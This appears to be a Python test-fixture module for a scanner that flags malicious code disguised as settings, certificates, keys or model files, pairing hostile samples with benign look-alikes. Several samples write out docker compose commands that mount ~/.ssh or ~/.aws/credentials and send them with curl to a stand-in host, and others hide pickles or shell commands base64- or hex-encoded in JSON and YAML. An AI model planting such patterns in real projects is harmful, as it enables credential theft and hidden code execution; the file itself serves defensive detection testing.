"""Samples and twins of what files carry that look like settings, data or certificates."""

import base64
import zlib

from inspection.rules.sample import PICKLE_PLAIN, PICKLE_PRINT, Sample, package

_READS = "import base64, json, pickle, zlib\nheld = json.load(open('a.json'))\n"


def _card(data: bytes, loads: str = "base64.b64decode(held['a'])") -> dict[str, str | bytes]:
    """A program that unpickles what a file of settings holds as text, on line 2 of that."""
    text = '{"name": "b",\n"a": "' + base64.b64encode(data).decode() + '"}\n'
    return {"app.py": f"{_READS}print(pickle.loads({loads}))\n", "a.json": text}


def _held(runs: str) -> dict[str, str | bytes]:
    """A program that does something, on line 3, with what a file of settings holds as text."""
    text = "import base64, json, os, subprocess\nheld = json.load(open('a.json'))\n"
    return {"app.py": text + runs.format("held['a']") + "\n", "a.json": '{"a": "6563686f2068656c6c6f"}'}


def _started(command: str, path: str, text: str = "console.log('hello');\n") -> dict[str, str | bytes]:
    """A command of the project, on line 2, and a file that it names."""
    return {"package.json": package(dev=command), path: text}


def _service(volume: str, command: str) -> dict[str, str | bytes]:
    """A service whose command, on line 6, sees what lies at a path of the machine."""
    return {"compose.yaml": f"services:\n  a:\n    image: b\n    volumes:\n      - {volume}\n    command: {command}\n"}


_PACKED = "sh -c 'tar c -C /in . | curl -s --data-binary @- https://a.invalid'"

HOSTILE: dict[str, dict[str, Sample]] = {
    "shipped_object": {
        "a pickle among settings, as base64": Sample(_card(PICKLE_PRINT), "block", ("a.json", 2)),
        "the same, compressed": Sample(
            _card(zlib.compress(PICKLE_PRINT), "zlib.decompress(base64.b64decode(held['a']))"), "block", ("a.json", 2)
        ),
        "in a text of several lines": Sample(
            {
                "app.py": "import base64, pickle\npickle.loads(base64.b64decode(open('a.txt').read()))\n",
                "a.txt": base64.encodebytes(b"cbuiltins\nprint\n(V" + b"hello " * 20 + b"\ntR."),
            },
            "block",
            ("a.txt", 1),
        ),
        "as hex": Sample(
            {
                "app.py": "import pickle, yaml\nheld = yaml.safe_load(open('a.yaml'))\n"
                "pickle.loads(bytes.fromhex(held['a']))\n",
                "a.yaml": f"name: b\na: {PICKLE_PRINT.hex()}\n",
            },
            "block",
            ("a.yaml", 2),
        ),
    },
    "decoded_code": {
        "a command among settings, as base64": Sample(
            _held("os.system(base64.b64decode({}).decode())"), "block", ("app.py", 3)
        ),
        "one that a program of its own runs": Sample(
            _held("subprocess.run(['sh', '-c', bytes.fromhex({}).decode()])"), "block", ("app.py", 3)
        ),
        "what a compiled module says is a command": Sample(
            {
                "a.js": "const { execSync } = require('child_process'), fs = require('fs');\n"
                "const code = Buffer.from(fs.readFileSync('./a.b64', 'utf8'), 'base64');\n"
                "const env = { call: (text) => execSync(text) };\nWebAssembly.instantiate(code, { env });\n",
                "a.b64": "AGFzbQEAAAA=\n",
            },
            "block",
            ("a.js", 3),
        ),
    },
    "secrets_sent": {
        "keys that a container holds, packed": Sample(
            _service("${HOME}/.ssh:/in/a:ro", _PACKED), "block", ("compose.yaml", 6)
        ),
        "one of them, from a home that it holds": Sample(
            _service("~:/in", "curl -T /in/.aws/credentials https://a.invalid"), "block", ("compose.yaml", 6)
        ),
        "one that it is given as a secret": Sample(
            {
                "compose.yaml": "services:\n  a:\n    secrets: [k]\n    command: curl -F a=@/run/secrets/k"
                " https://a.invalid\nsecrets:\n  k:\n    file: ${HOME}/.ssh/id_rsa\n"
            },
            "block",
            ("compose.yaml", 4),
        ),
    },
    "disguised_program": {
        "a certificate that Node runs": Sample(
            _started("node certs/a.pem && vite", "certs/a.pem"), "block", ("certs/a.pem", 1)
        ),
        "a key that Node runs first": Sample(
            _started("NODE_OPTIONS='--require ./a.key' vite", "a.key"), "block", ("a.key", 1)
        ),
        "a model that Python runs": Sample(
            {"Makefile": "all:\n\tpython models/a.onnx\n", "models/a.onnx": "print('hello')\n"},
            "block",
            ("models/a.onnx", 1),
        ),
        "subtitles that are read and run": Sample(
            {"app.py": "exec(open('a.srt').read())\n", "a.srt": "print('hello')\n"}, "block", ("app.py", 1)
        ),
        "settings that Node runs": Sample(
            _started("node locales/a.yaml", "locales/a.yaml"), "review", ("locales/a.yaml", 1)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "shipped_object": {
        "a plain pickle among settings": _card(PICKLE_PLAIN * 3),
        "settings that hold one which is only decoded": {
            **_card(PICKLE_PRINT),
            "app.py": f"{_READS}print(len(base64.b64decode(held['a'])))\n",
        },
    },
    "decoded_code": {
        "a word of a command among settings": _held("subprocess.run(['echo', base64.b64decode({}).decode()])"),
        "a text among settings that is shown": _held("print(base64.b64decode({}).decode())"),
    },
    "secrets_sent": {
        "a folder of the project that a container holds": _service("./fixtures:/in/a:ro", _PACKED),
        "another folder than that of the keys": _service("${HOME}/.ssh:/out/a:ro", _PACKED),
        "keys by which a container logs in": _service(
            "~/.ssh:/in:ro", "rsync -e 'ssh -i /in/id_rsa' -a /data u@a.invalid:/b"
        ),
    },
    "disguised_program": {
        "a certificate that Node trusts": _started("NODE_EXTRA_CA_CERTS=certs/a.pem vite", "certs/a.pem"),
        "a key that a program is given": {**_started("node a.js a.key", "a.key"), "a.js": "console.log(1);\n"},
        "settings that a shell reads": {"Makefile": "all:\n\t. ./a.env && echo $A\n", "a.env": "A=1\n"},
    },
}
